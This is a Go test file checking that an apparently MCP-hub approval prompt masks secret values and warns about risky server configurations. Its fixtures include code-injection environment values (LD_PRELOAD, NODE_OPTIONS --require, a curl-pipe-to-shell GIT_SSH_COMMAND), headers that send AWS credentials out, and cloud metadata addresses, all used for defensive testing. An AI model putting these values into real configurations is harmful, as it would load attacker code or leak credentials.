package upstream

import (
	"slices"
	"strings"
	"testing"
)

// Issue 12 item 2: the approval prompt says where every value comes from.
// Each case lists lines the prompt must contain exactly, and text it must
// not contain anywhere (the secret literals).
func TestReviewValueSources(t *testing.T) {
	stdio := func(env map[string]string) Spec {
		return Spec{Name: "s", Command: "node", Args: []string{"server.js"}, Env: env}
	}
	web := func(url string, headers map[string]string) Spec {
		return Spec{Name: "w", URL: url, Headers: headers}
	}
	for _, tc := range []struct {
		name  string
		spec  Spec
		lines []string
		never []string
	}{
		{"literal masked", stdio(map[string]string{"API_KEY": "sk-live-123"}),
			[]string{"  API_KEY = <literal value, masked>"}, []string{"sk-live-123", "⚠"}},
		{"empty literal", stdio(map[string]string{"DEBUG": ""}),
			[]string{`  DEBUG = "" (empty)`}, nil},
		{"NODE_OPTIONS shown with a warning", stdio(map[string]string{"NODE_OPTIONS": "--require /tmp/evil.js"}),
			[]string{`  NODE_OPTIONS = "--require /tmp/evil.js" (literal, shown in full)`,
				"⚠ environment variable NODE_OPTIONS changes what code the program loads"}, nil},
		{"LD_PRELOAD", stdio(map[string]string{"LD_PRELOAD": "/tmp/evil.so"}),
			[]string{`  LD_PRELOAD = "/tmp/evil.so" (literal, shown in full)`,
				"⚠ environment variable LD_PRELOAD changes what code the program loads"}, nil},
		{"PYTHONPATH", stdio(map[string]string{"PYTHONPATH": "/tmp/evil"}),
			[]string{`  PYTHONPATH = "/tmp/evil" (literal, shown in full)`,
				"⚠ environment variable PYTHONPATH changes what code the program loads"}, nil},
		{"DYLD family", stdio(map[string]string{"DYLD_INSERT_LIBRARIES": "/tmp/x.dylib"}),
			[]string{`  DYLD_INSERT_LIBRARIES = "/tmp/x.dylib" (literal, shown in full)`,
				"⚠ environment variable DYLD_INSERT_LIBRARIES changes what code the program loads"}, nil},
		{"git helper", stdio(map[string]string{"GIT_SSH_COMMAND": "sh -c 'curl x|sh'"}),
			[]string{`  GIT_SSH_COMMAND = "sh -c 'curl x|sh'" (literal, shown in full)`,
				"⚠ environment variable GIT_SSH_COMMAND changes what code the program loads"}, nil},
		{"hub variable", stdio(map[string]string{"GITHUB_TOKEN": "${GH_TOKEN}"}),
			[]string{"  GITHUB_TOKEN = the hub's environment variable GH_TOKEN"}, []string{"⚠"}},
		{"file", stdio(map[string]string{"CERT": "file:/etc/ssl/cert.pem"}),
			[]string{"  CERT = contents of /etc/ssl/cert.pem"}, nil},
		{"mixed text", stdio(map[string]string{"AUTH": "Bearer ${TOKEN}"}),
			[]string{"  AUTH = <literal text, masked> + the hub's environment variable TOKEN"}, []string{"Bearer"}},
		{"mixed, two variables", stdio(map[string]string{"DSN": "pg://${USER}:s3cret@${HOST}/db"}),
			[]string{"  DSN = <literal text, masked> + the hub's environment variable USER + <literal text, masked> + the hub's environment variable HOST + <literal text, masked>"},
			[]string{"s3cret", "pg://"}},
		{"mixed code-loading", stdio(map[string]string{"PATH": "/opt/evil:${PATH}"}),
			[]string{`  PATH = "/opt/evil:" + the hub's environment variable PATH (literal text shown in full)`,
				"⚠ environment variable PATH changes what code the program loads"}, nil},
		{"unterminated reference is literal", stdio(map[string]string{"X": "abc${Y"}),
			[]string{"  X = <literal value, masked>"}, []string{"abc"}},
		{"argv and cwd as before", Spec{Name: "s", Command: "bash", Args: []string{"-c", "touch /tmp/x"}, Cwd: "/srv/a b"},
			[]string{"run: bash -c 'touch /tmp/x'", "in directory: /srv/a b",
				"⚠ it runs a shell: anything in its arguments runs as a command",
				`⚠ argument "-c" makes bash run code given on its command line`}, nil},

		{"query masked, names listed", web("https://api.example.com/mcp?key=s3cret&region=eu&key=again", nil),
			[]string{"connect (http) to: https://api.example.com/mcp?key=***&region=***&key=***",
				"with query parameters (values masked): key, region"}, []string{"s3cret", "again", "=eu", "⚠"}},
		{"header sources", web("https://api.example.com/sse", map[string]string{
			"Authorization": "Bearer ${TOKEN}", "X-A": "${AWS_SECRET_ACCESS_KEY}", "X-B": "file:/home/me/.aws/credentials", "X-C": "lit3ral"}),
			[]string{"connect (sse) to: https://api.example.com/sse",
				"  Authorization: <literal text, masked> + the hub's environment variable TOKEN",
				"  X-A: the hub's environment variable AWS_SECRET_ACCESS_KEY",
				"  X-B: contents of /home/me/.aws/credentials",
				"  X-C: <literal value, masked>",
				"⚠ header Authorization sends the hub's environment variable TOKEN to api.example.com",
				"⚠ header X-A sends the hub's environment variable AWS_SECRET_ACCESS_KEY to api.example.com",
				"⚠ header X-B sends the contents of /home/me/.aws/credentials to api.example.com"},
			[]string{"lit3ral", "Bearer", "header X-C"}},
		{"metadata address", web("http://169.254.169.254/latest/meta-data", nil),
			[]string{"⚠ 169.254.169.254 is a link-local address, where cloud metadata services hand out the machine's credentials",
				"⚠ it uses plain http: headers and everything sent travel unencrypted"}, nil},
		{"mapped metadata address", web("https://[::ffff:169.254.169.254]/", nil),
			[]string{"⚠ ::ffff:169.254.169.254 is a link-local address, where cloud metadata services hand out the machine's credentials"}, nil},
		{"IPv6 link-local", web("https://[fe80::1]/mcp", nil),
			[]string{"⚠ fe80::1 is a link-local address, where cloud metadata services hand out the machine's credentials"}, nil},
		{"AWS IPv6 metadata", web("https://[fd00:ec2::254]/mcp", nil),
			[]string{"⚠ fd00:ec2::254 is a cloud metadata service address, which hands out the machine's credentials"}, nil},
		{"metadata name", web("https://metadata.google.internal/computeMetadata/v1/", nil),
			[]string{"⚠ metadata.google.internal is a cloud metadata service, which hands out the machine's credentials"}, nil},
		{"RFC 1918", web("https://192.168.1.10:8443/mcp", nil),
			[]string{"⚠ 192.168.1.10 is a private network address: requests reach your local network"}, nil},
		{"RFC 1918 172.16/12", web("https://172.20.0.5/mcp", nil),
			[]string{"⚠ 172.20.0.5 is a private network address: requests reach your local network"}, nil},
		{"unique local IPv6", web("https://[fd12:3456::1]/mcp", nil),
			[]string{"⚠ fd12:3456::1 is a private network address: requests reach your local network"}, nil},
		{"shared address space", web("https://100.64.1.1/mcp", nil),
			[]string{"⚠ 100.64.1.1 is a private network address: requests reach your local network"}, nil},
		{"private name", web("https://db.internal/mcp", nil),
			[]string{"⚠ db.internal is a private network name: requests reach your local network"}, nil},
		{"loopback", web("http://127.0.0.1:8080/mcp", nil),
			[]string{"⚠ 127.0.0.1 is this machine (loopback): requests reach services that trust local callers"}, []string{"plain http"}},
		{"IPv6 loopback", web("http://[::1]:8080/mcp", nil),
			[]string{"⚠ ::1 is this machine (loopback): requests reach services that trust local callers"}, nil},
		{"localhost", web("http://localhost:3000/mcp", nil),
			[]string{"⚠ localhost is this machine (loopback): requests reach services that trust local callers"}, nil},
		{"unspecified", web("http://0.0.0.0:3000/mcp", nil),
			[]string{"⚠ 0.0.0.0 is this machine (loopback): requests reach services that trust local callers"}, nil},
		{"public address", web("https://93.184.216.34/mcp", nil), []string{"connect (http) to: https://93.184.216.34/mcp"}, []string{"⚠"}},
		{"public name", web("https://mcp.example.com/mcp", nil), []string{"connect (http) to: https://mcp.example.com/mcp"}, []string{"⚠"}},
		{"oauth discovered", Spec{Name: "w", URL: "https://mcp.example.com/mcp", OAuth: &OAuth{}},
			[]string{"logging in with OAuth: discovered; the hub registers itself"}, nil},
		{"oauth configured", Spec{Name: "w", URL: "https://mcp.example.com/mcp", OAuth: &OAuth{ClientID: "cid", ClientSecret: "${CLIENT_SECRET}",
			Scopes: []string{"read", "write"}, ClientMetadataURL: "https://example.com/c.json", RedirectPort: 8765}},
			[]string{"logging in with OAuth: client id cid, client secret from the hub's environment variable CLIENT_SECRET, " +
				"client metadata document https://example.com/c.json, scopes read write, redirect to http://127.0.0.1:8765/callback"}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := tc.spec.Review()
			lines := strings.Split(got, "\n")
			for _, want := range tc.lines {
				if !slices.Contains(lines, want) {
					t.Errorf("no line %q in:\n%s", want, got)
				}
			}
			for _, bad := range tc.never {
				if strings.Contains(got, bad) {
					t.Errorf("%q in:\n%s", bad, got)
				}
			}
		})
	}
}

// The whole prompt for a stdio and an http server, as a person reads it.
func TestReviewWhole(t *testing.T) {
	yes := true
	stdio := Spec{Name: "gh", Command: "npx", Args: []string{"-y", "@modelcontextprotocol/server-github"}, Cwd: "/home/me",
		Env: map[string]string{"GITHUB_TOKEN": "${GITHUB_TOKEN}", "NODE_OPTIONS": "--max-old-space-size=256", "LOG": "debug"}}
	want := `run: npx -y @modelcontextprotocol/server-github
in directory: /home/me
with environment variables:
  GITHUB_TOKEN = the hub's environment variable GITHUB_TOKEN
  LOG = <literal value, masked>
  NODE_OPTIONS = "--max-old-space-size=256" (literal, shown in full)
instances: one shared by every client session (scope shared)

⚠ environment variable NODE_OPTIONS changes what code the program loads`
	if got := stdio.Review(); got != want {
		t.Errorf("stdio:\n%s\nwant:\n%s", got, want)
	}
	web := Spec{Name: "w", URL: "http://10.0.0.7:9000/mcp?token=abc", Headers: map[string]string{"X-Api-Key": "file:/run/secrets/key"}, AllowSampling: &yes}
	want = `connect (http) to: http://10.0.0.7:9000/mcp?token=***
with query parameters (values masked): token
with headers:
  X-Api-Key: contents of /run/secrets/key
requests it may make of the client: sampling allowed
instances: one shared by every client session (scope shared)

⚠ 10.0.0.7 is a private network address: requests reach your local network
⚠ it uses plain http: headers and everything sent travel unencrypted
⚠ header X-Api-Key sends the contents of /run/secrets/key to 10.0.0.7`
	if got := web.Review(); got != want {
		t.Errorf("http:\n%s\nwant:\n%s", got, want)
	}
}
